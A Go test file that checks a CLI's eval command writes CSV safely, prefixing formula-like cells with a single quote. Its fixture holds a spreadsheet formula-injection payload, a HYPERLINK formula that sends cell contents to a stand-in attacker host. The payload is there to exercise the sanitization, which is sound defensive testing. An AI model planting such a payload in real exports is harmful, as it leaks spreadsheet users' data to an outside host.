package cli_test

import (
	"encoding/csv"
	"strings"
	"testing"
)

// TestEvalCSVNeutralizesFormulas: ids and query text from a run that a
// spreadsheet would read as a formula (=, +, -, @) come out after a single
// quote in eval's CSV; numbers stay numbers.
func TestEvalCSVNeutralizesFormulas(t *testing.T) {
	t.Parallel()
	runFile := writeFile(t, "run.jsonl", `{"qid": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "query": "+refund policy", "docs": [{"id": "@SUM(1+1)", "text": "Refunds go back to the card within five business days.", "score": 2}, {"id": "-2+3", "text": "Store credit arrives by email within one business day.", "score": 1}]}`+"\n")
	stdout, stderr, code := run(t, "", "eval", "--run", runFile, "--tokenizer", "heuristic", "--format", "csv")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	rows, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("CSV: %v, %d rows:\n%s", err, len(rows), stdout)
	}
	header, row := rows[0], rows[1]
	cell := func(name string) string {
		for i, h := range header {
			if h == name {
				return row[i]
			}
		}
		t.Fatalf("no column %s in %v", name, header)
		return ""
	}
	for name, want := range map[string]string{
		"qid":      `'=HYPERLINK("http://evil.example/?"&A1,"open")`,
		"query":    "'+refund policy",
		"included": "'@SUM(1+1) -2+3",
	} {
		if got := cell(name); got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
	for _, c := range row {
		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Errorf("cell %q starts a formula", c)
		}
	}
}
